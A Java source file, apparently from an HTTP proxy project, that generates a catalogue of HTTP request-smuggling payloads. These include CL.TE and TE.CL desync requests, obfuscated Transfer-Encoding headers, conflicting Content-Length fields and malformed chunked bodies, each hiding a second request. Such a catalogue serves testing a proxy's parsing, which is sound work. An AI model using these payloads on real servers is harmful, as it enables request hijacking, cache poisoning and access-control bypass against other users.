package dev.usher.proxy;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.BiFunction;

/**
 * Requests that a proxy and a server may separate differently. Each hides another request, whose
 * last line is open: the head of the next client's request, token and all, would complete it.
 */
final class SmugglingShapes {
  private static final String HOST = " / HTTP/1.1\r\nHost: x\r\n";

  private SmugglingShapes() {}

  /** The shapes by their names, each hiding that request. */
  static Map<String, String> hiding(String request) {
    Map<String, String> shapes = new LinkedHashMap<>();
    for (String method : List.of("TRACE", "PRI", "CONNECT", "QUERY", "GET", "HEAD", "get")) {
      shapes.put(method + " with a length", method + HOST + length(request) + "\r\n" + request);
      shapes.put(
          method + " with chunks",
          method + HOST + "Transfer-Encoding: chunked\r\n\r\n" + chunked(request));
    }
    withBothFields(request, shapes);
    withOddFields(request, shapes);
    withOddChunks(request, shapes);
    return shapes;
  }

  private static void withBothFields(String request, Map<String, String> shapes) {
    BiFunction<String, String, String> post =
        (fields, body) -> "POST" + HOST + fields + "\r\n\r\n" + body;
    String ended = "0\r\n\r\n" + request;
    for (String coding :
        List.of(
            "Transfer-Encoding: chunked",
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding:\tchunked",
            "Transfer-Encoding:\u000bchunked",
            "Transfer-Encoding:\r\n chunked",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: chunked, identity",
            "X: y\rTransfer-Encoding: chunked",
            "X: y\nTransfer-Encoding: chunked",
            "Transfer_Encoding: chunked",
            " Transfer-Encoding: chunked")) {
      String whole = "Content-Length: " + ended.length();
      shapes.put("CL.TE " + coding, post.apply(whole + "\r\n" + coding, ended));
      shapes.put("CL.TE reversed " + coding, post.apply(coding + "\r\n" + whole, ended));
      String chunks = chunked(request);
      String first = "Content-Length: " + (chunks.indexOf('\n') + 1);
      shapes.put("TE.CL " + coding, post.apply(first + "\r\n" + coding, chunks));
    }
  }

  private static void withOddFields(String request, Map<String, String> shapes) {
    int length = request.length();
    for (String fields :
        List.of(
            "Content-Length: 0\r\nContent-Length: " + length,
            "Content-Length: " + length + "\r\nContent-Length: 0",
            "Content-Length: 0, " + length,
            "Content-Length: +" + length,
            "Content-Length: " + length + "\r\n ",
            "Content-Length : " + length,
            "Content-Length\t: " + length,
            "Content-Length: 0x" + Integer.toHexString(length),
            "Content-Length: " + "0".repeat(30) + length,
            "Expect: 100-continue\r\nContent-Length: " + length,
            "Upgrade: h2c\r\nConnection: Upgrade\r\nContent-Length: " + length,
            "Connection: Content-Length\r\nContent-Length: " + length)) {
      shapes.put("GET " + fields, "GET" + HOST + fields + "\r\n\r\n" + request);
      shapes.put("POST " + fields, "POST" + HOST + fields + "\r\n\r\n" + request);
    }
  }

  private static void withOddChunks(String request, Map<String, String> shapes) {
    String size = Integer.toHexString(request.length());
    for (String body :
        List.of(
            size + ";name=value\r\n" + request + "\r\n0\r\n\r\n",
            size + ";\n" + request + "\r\n0\r\n\r\n",
            size + "\n" + request + "\r\n0\r\n\r\n",
            size + " \r\n" + request + "\r\n0\r\n\r\n",
            "2;\n\r\n\r\n0\r\n\r\n" + request,
            "1\r\nZ\n0\r\n\r\n" + request,
            "1\r\nZ0\r\n\r\n" + request,
            "1\r\nZXX0\r\n\r\n" + request,
            "0\n\n" + request,
            "0\r\n\n" + request,
            "0\r\nA: b\r\n c\r\n\r\n" + request,
            "0x0\r\n\r\n" + request,
            "-0\r\n\r\n" + request,
            "10000000000000000\r\n\r\n" + request,
            "0;a=\"\r\n\r\n" + request)) {
      shapes.put(
          "chunks " + body.substring(0, body.indexOf('\n')) + " " + shapes.size(),
          "POST" + HOST + "Transfer-Encoding: chunked\r\n\r\n" + body);
    }
  }

  private static String length(String body) {
    return "Content-Length: " + body.length() + "\r\n";
  }

  private static String chunked(String body) {
    return Integer.toHexString(body.length()) + "\r\n" + body + "\r\n0\r\n\r\n";
  }
}
